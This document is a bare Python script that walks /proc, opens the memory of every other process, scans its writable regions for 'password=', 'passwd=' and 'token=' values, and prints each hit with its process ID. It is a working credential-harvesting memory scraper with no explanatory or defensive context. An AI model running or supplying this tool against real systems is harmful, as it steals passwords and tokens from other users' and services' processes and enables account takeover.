import os
import re

pat = re.compile(rb"(?:password|passwd|token)=([^\s&\0]{6,64})", re.I)
me = str(os.getpid())
for pid in filter(str.isdigit, os.listdir("/proc")):
    if pid == me:
        continue
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for m in maps:
        rng, perm = m.split()[:2]
        if not perm.startswith("rw"):
            continue
        lo, hi = (int(v, 16) for v in rng.split("-"))
        try:
            mem.seek(lo)
            for hit in pat.findall(mem.read(min(hi - lo, 1 << 24))):
                print(pid, hit)
        except (OSError, ValueError, OverflowError):
            pass
